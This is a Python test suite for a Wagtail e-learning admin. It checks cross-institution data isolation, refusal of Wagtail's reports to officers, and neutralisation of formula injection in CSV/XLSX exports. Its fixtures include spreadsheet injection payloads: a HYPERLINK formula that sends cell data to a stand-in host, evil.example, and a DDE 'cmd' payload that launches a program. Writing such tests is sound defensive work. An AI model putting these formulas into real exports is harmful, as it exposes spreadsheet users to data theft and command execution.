"""Wagtail's own admin screens never show a safety officer another institution's people, and every spreadsheet the
admin exports is neutralised against formula injection.

Safety officers hold view_user / change_user (for the 人员 listing, scoped to their institution). Wagtail's own reports
and listings know nothing of institutions: its site history listed every account's changes, with who made them. So:
- every GET-able admin URL of the URL resolver (path arguments filled with real objects of both institutions, listings
  also searched and exported) is requested as the officer of A, and no answer may carry B's people (names, 工号,
  mobiles), whoever wrote the view;
- Wagtail's reports (/admin/reports/locked/, site-history/, workflow/, ...) are refused to officers and left out of
  their menu; the district admin still has them;
- the district admin's site history exports (CSV and XLSX) and a Wagtail listing export (the question bank's) carry a
  name or text that starts like a formula as text, with the leading apostrophe of elearn.spreadsheets.neutralise.
"""

from __future__ import annotations

import csv
import io
import itertools
import re
import uuid
import zipfile
from types import SimpleNamespace

import pytest
from django.apps import apps
from django.contrib.contenttypes.models import ContentType
from django.core.files.base import ContentFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from tests.factories import UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'

# Not requested: they end the session, or raise on purpose (Wagtail's error test page).
SKIPPED_NAMES = {"wagtailadmin_logout", "wagtailadmin_error_test"}


# --- the admin URLs --------------------------------------------------------------------------------------------------


def admin_routes() -> list[SimpleNamespace]:
    """Every URL pattern under admin/: its route text (Django route syntax or regex), full name and view."""
    found = []

    def walk(patterns, prefix: str, namespace: str):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
                continue
            assert isinstance(pattern, URLPattern)
            route = (prefix + str(pattern.pattern)).replace("^", "").replace("$", "")
            if not route.startswith("admin/"):
                continue
            found.append(SimpleNamespace(route=route, name=f"{namespace}{pattern.name or ''}", view=pattern.callback))

    walk(get_resolver().url_patterns, "", "")
    return found


PARAM = re.compile(r"<(?:(?P<conv>\w+):)?(?P<name>\w+)>|\(\?P<(?P<rname>\w+)>[^)]*\)")


def _view_model(view):
    model = (getattr(view, "view_initkwargs", None) or {}).get("model")
    if isinstance(model, str):
        try:
            model = apps.get_model(model)
        except (LookupError, ValueError):
            return None
    return model if isinstance(model, type) and hasattr(model, "_meta") else None


MODEL_PAIRS = [
    ("org", "user"),
    ("org", "institution"),
    ("wagtailcore", "page"),
    ("courses", "lessonpage"),
    ("wagtaildocs", "document"),
    ("wagtailimages", "image"),
    ("quizzes", "question"),
    ("content", "platformsettings"),
]


def _values(name: str, conv: str | None, route: SimpleNamespace, world) -> list[str]:
    """Candidate values for one path argument."""
    if conv == "uuid":
        return [str(world.B.export_uuid), str(uuid.uuid4())]
    if name in ("page_id", "parent_page_id", "page_to_move_id", "destination_id", "page_pk"):
        return [str(world.page.pk)]
    if name == "pk" and route.name.startswith("wagtailadmin_pages:"):
        return [str(world.page.pk)]
    if name in world.ids:
        return world.ids[name]
    if name in ("pk", "object_id"):
        model = _view_model(route.view)
        if model is not None:
            mine = world.by_model.get(model._meta.label)
            if mine:
                return mine
            return [str(pk) for pk in model._default_manager.order_by("-pk").values_list("pk", flat=True)[:2]] or ["1"]
        return world.pool
    if name == "revision_id_a":
        return ["earliest"]
    if name == "revision_id_b":
        return ["latest"]
    if name == "filter_spec":
        return ["original"]
    if name == "kind":
        return ["absentees", "results"]
    if conv == "int":
        return ["1"]
    return ["x"]


def _fill(route: SimpleNamespace, world) -> list[str]:
    """URLs for a route: every combination of candidate values (app/model pairs kept together), capped."""
    params = [(m.group("conv"), m.group("name") or m.group("rname")) for m in PARAM.finditer(route.route)]
    app_names = [n for _c, n in params if n in ("app_label", "app_name", "content_type_app_name")]
    model_names = [n for _c, n in params if n in ("model_name", "content_type_model_name")]
    choices = []
    for conv, name in params:
        if name in app_names or name in model_names:
            continue
        if name == "action":
            choices.append([(name, action) for action in world.bulk_actions])
            continue
        choices.append([(name, value) for value in _values(name, conv, route, world)])
    if app_names and model_names:
        choices.append([((app_names[0], app), (model_names[0], model)) for app, model in MODEL_PAIRS])
    urls = []
    for combo in itertools.islice(itertools.product(*choices), 24):
        values = {}
        for item in combo:
            pairs = item if isinstance(item[0], tuple) else (item,)
            values.update(dict(pairs))
        urls.append("/" + PARAM.sub(lambda m, v=values: v[m.group("name") or m.group("rname")], route.route))
    return urls


def _text(response) -> str:
    """The body as text; for a workbook, the text of its parts."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if content[:2] == b"PK":
        try:
            with zipfile.ZipFile(io.BytesIO(content)) as book:
                return "".join(book.read(name).decode("utf-8", errors="ignore") for name in book.namelist())
        except zipfile.BadZipFile:
            pass
    return content.decode("utf-8", errors="ignore")


# --- the world -------------------------------------------------------------------------------------------------------


@pytest.fixture
def world(db, tmp_path, settings):
    """The access matrix's two institutions, plus what Wagtail's own screens show about people: B's officer changed
    B's staff member and institution (model history), B's staff member owns, locked, revised and sent a study page into
    a workflow, commented on it, uploaded a document and an image, and is editing A's staff member's record."""
    from wagtail.admin.models import EditingSession
    from wagtail.documents import get_document_model
    from wagtail.images import get_image_model
    from wagtail.images.tests.utils import get_test_image_file
    from wagtail.log_actions import log
    from wagtail.models import Collection, Comment, GroupApprovalTask, Workflow, WorkflowPage, WorkflowTask

    from tests.reliability.access_matrix import build_world

    settings.MEDIA_ROOT = tmp_path
    w = build_world()
    a, b = w.A, w.B
    b.export_uuid = b.export.pk
    log(instance=b.staff, action="wagtail.edit", user=b.officer)
    log(instance=b.inst, action="wagtail.edit", user=b.officer)
    log(instance=a.staff, action="wagtail.edit", user=w.admin)

    page = w.lesson
    page.owner = b.staff
    page.save()
    revision = page.save_revision(user=b.staff)
    log(instance=page, action="wagtail.edit", user=b.staff, revision=revision)
    page.locked, page.locked_by, page.locked_at = True, b.staff, timezone.now()
    page.save()
    workflow = Workflow.objects.create(name="审核")
    task = GroupApprovalTask.objects.create(name="管理员审核")
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    WorkflowPage.objects.create(workflow=workflow, page=w.course)
    workflow_state = workflow.start(page, b.staff)
    Comment.objects.create(page=page, user=b.staff, text="乙方批注", contentpath="body")

    collection = Collection.get_first_root_node().add_child(name="乙院资料")
    document = get_document_model().objects.create(
        title="乙院制度", file=ContentFile(b"rules", name="rules.txt"), collection=collection, uploaded_by_user=b.staff
    )
    image = get_image_model().objects.create(
        title="乙院照片", file=get_test_image_file(), collection=collection, uploaded_by_user=b.staff
    )
    session = EditingSession.objects.create(
        user=b.staff,
        content_type=ContentType.objects.get_for_model(a.staff),
        object_id=str(a.staff.pk),
        last_seen_at=timezone.now(),
        is_editing=True,
    )
    w.page, w.document, w.image, w.workflow = page, document, image, workflow
    w.ids = {
        "revision_id": [str(revision.pk)],
        "workflow_state_id": [str(workflow_state.pk)],
        "task_state_id": [str(workflow_state.current_task_state.pk)],
        "task_id": [str(task.pk)],
        "workflow_pk": [str(workflow.pk)],
        "document_id": [str(document.pk)],
        "doc_id": [str(document.pk)],
        "image_id": [str(image.pk)],
        "collection_id": [str(collection.pk)],
        "session_id": [str(session.pk)],
        "exam_id": [str(a.exam.pk), str(b.exam.pk)],
    }
    people = [b.staff, b.officer, a.staff, a.officer]
    w.by_model = {
        "org.User": [str(u.pk) for u in people],
        "org.Institution": [str(b.inst.pk), str(a.inst.pk)],
        "wagtailcore.Workflow": [str(workflow.pk)],
        "wagtailcore.Task": [str(task.pk)],
        "wagtailcore.Collection": [str(collection.pk)],
        "wagtaildocs.Document": [str(document.pk)],
        "wagtailimages.Image": [str(image.pk)],
    }
    w.pool = sorted({str(b.staff.pk), str(b.inst.pk), str(page.pk), str(document.pk)})
    from wagtail.admin.views.bulk_action.registry import bulk_action_registry

    bulk_action_registry._scan_for_bulk_actions()
    w.bulk_actions = sorted(
        {
            action
            for by_model in bulk_action_registry.actions.values()
            for names in by_model.values()
            for action in names
        }
    )
    w.secrets = [b.staff.real_name, b.staff.employee_no, b.staff.mobile, b.officer.real_name, b.officer.employee_no]
    return w


def _client(user) -> Client:
    client = Client(raise_request_exception=False)
    client.force_login(user)
    return client


WAGTAIL_REPORTS = "wagtailadmin_reports:"


def _refused(response) -> bool:
    """Wagtail refuses with 403, or with a redirect to the dashboard ("Sorry, you do not have permission")."""
    if response.status_code == 403:
        return True
    return response.status_code in (301, 302) and response["Location"].rstrip("/").endswith("/admin")


def test_no_admin_url_shows_an_officer_another_institutions_people(world):
    client = _client(world.A.officer)
    routes = [r for r in admin_routes() if r.name.split(":")[-1] not in SKIPPED_NAMES]
    assert len(routes) > 200, "the admin URL conf was not walked"
    leaks, not_refused, errors, requested = [], [], [], 0
    for route in routes:
        for url in _fill(route, world):
            queries = [""]
            if "<" not in route.route and "(?P" not in route.route:
                queries += ["?q=矩阵", "?export=csv", "?export=xlsx"]
            if route.name == "wagtail_bulk_action":
                ids = "&".join(f"id={pk}" for pk in world.pool + world.by_model["org.User"])
                queries = [f"?{ids}"]
            for query in queries:
                response = client.get(url + query)
                requested += 1
                if response.status_code >= 500:
                    errors.append(f"{url}{query} -> {response.status_code}")
                    continue
                text = _text(response)
                found = [secret for secret in world.secrets if secret and secret in text]
                if found:
                    leaks.append(f"{url}{query} ({route.name}) -> {response.status_code} shows {found}")
                if route.name.startswith(WAGTAIL_REPORTS) and not _refused(response):
                    not_refused.append(f"{url}{query} -> {response.status_code}")
    assert requested > 300
    problems = [f"B's people shown to A's officer: {x}" for x in leaks]
    problems += [f"Wagtail's report answered an officer: {x}" for x in not_refused]
    problems += [f"server error: {x}" for x in errors]
    assert not problems, "\n".join(problems)


REPORT_URLS = [
    "/admin/reports/site-history/",
    "/admin/reports/site-history/results/",
    "/admin/reports/locked/",
    "/admin/reports/locked/results/",
    "/admin/reports/workflow/",
    "/admin/reports/workflow/results/",
    "/admin/reports/workflow_tasks/",
    "/admin/reports/workflow_tasks/results/",
    "/admin/reports/aging-pages/",
    "/admin/reports/aging-pages/results/",
    "/admin/reports/page-types-usage/",
    "/admin/reports/page-types-usage/results/",
]


@pytest.mark.parametrize("export", ["", "?export=csv", "?export=xlsx"])
def test_wagtail_reports_are_refused_to_officers_and_kept_for_the_district_admin(world, export):
    _give_officers_page_rights()
    officer, admin = _client(world.A.officer), _client(world.admin)
    for url in REPORT_URLS:
        assert _refused(officer.get(url + export)), url + export
        assert admin.get(url + export).status_code == 200, url + export
    # Refused by the AJAX convention too (the listings' results views are fetched with X-Requested-With).
    assert officer.get(REPORT_URLS[1], headers={"x-requested-with": "XMLHttpRequest"}).status_code == 403


def _give_officers_page_rights():
    """Wagtail shows most of its reports to whoever may edit pages: give the officers' group that right, so that only
    the project's rule can keep the reports from them."""
    from django.contrib.auth.models import Permission
    from wagtail.models import GroupPagePermission, Page

    from elearn.org.roles import officer_group

    for codename in ("add_page", "change_page", "publish_page", "unlock_page"):
        GroupPagePermission.objects.create(
            group=officer_group(),
            page=Page.get_first_root_node(),
            permission=Permission.objects.get(content_type__app_label="wagtailcore", codename=codename),
        )


def test_officers_menu_has_no_wagtail_reports_and_keeps_the_campaign_reports(world):
    _give_officers_page_rights()
    officer_home = _client(world.A.officer).get("/admin/").content.decode()
    admin_home = _client(world.admin).get("/admin/").content.decode()
    for url in ("/admin/reports/site-history/", "/admin/reports/locked/", "/admin/reports/aging-pages/"):
        assert url in admin_home
        assert url not in officer_home
    assert "/admin/reports/" in officer_home  # the campaign reports (leaderboard.reports) stay theirs


# --- formula injection in Wagtail's exports -------------------------------------------------------------------------


def _csv_cells(response) -> list[str]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(response) -> list:
    import openpyxl

    content = b"".join(response.streaming_content) if response.streaming else response.content
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            cells.extend(row)
    return cells


def _assert_neutralised(response, fmt: str, needle: str):
    assert response.status_code == 200, response.status_code
    if fmt == "csv":
        cells = [c for c in _csv_cells(response) if needle in c]
        assert cells, f"{needle!r} not exported"
        assert all(c.startswith("'") for c in cells), cells
    else:
        cells = [c for c in _xlsx_cells(response) if isinstance(c.value, str) and needle in c.value]
        assert cells, f"{needle!r} not exported"
        assert all(c.data_type == "s" and c.value.startswith("'") for c in cells), [
            (c.value, c.data_type) for c in cells
        ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_site_history_exports_are_neutralised(district_admin, client, fmt, db):
    from wagtail.log_actions import log

    editor = UserFactory(real_name=FORMULA, employee_no="-1+1", role="officer")
    victim = UserFactory(real_name="@SUM(1+1)*cmd|' /C calc'!A0")
    log(instance=victim, action="wagtail.edit", user=editor)
    client.force_login(district_admin)
    response = client.get(f"/admin/reports/site-history/?export={fmt}")
    _assert_neutralised(response, fmt, "HYPERLINK")  # the user column (who made the change)
    _assert_neutralised(client.get(f"/admin/reports/site-history/?export={fmt}"), fmt, "SUM(1+1)")  # the object


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_wagtail_listing_export_is_neutralised(district_admin, client, fmt, db):
    """The question bank's Wagtail listing (a snippet viewset with list_export)."""
    from tests.quizzes.exam_factories import BankQuestionFactory

    BankQuestionFactory(stem="=1+2 哪个是正确的消防通道宽度？")
    BankQuestionFactory(stem="\t+cmd 制表符开头")
    client.force_login(district_admin)
    response = client.get(f"/admin/bank/questions/?export={fmt}")
    _assert_neutralised(response, fmt, "消防通道")
    _assert_neutralised(client.get(f"/admin/bank/questions/?export={fmt}"), fmt, "制表符开头")


def test_the_rule_is_the_projects_one():
    """Wagtail's exports use elearn.spreadsheets.neutralise: one rule, one place."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from elearn.spreadsheets import FORMULA_PREFIXES, neutralise

    view = SpreadsheetExportMixin()
    for prefix in FORMULA_PREFIXES:
        value = prefix + "x"
        assert view.preprocess_field_value("f", value, "csv") == neutralise(value) == "'" + value
        assert view.preprocess_field_value("f", value, "xlsx") == "'" + value
    assert view.preprocess_field_value("f", "正常", "csv") == "正常"
    assert view.preprocess_field_value("f", 5, "xlsx") == 5
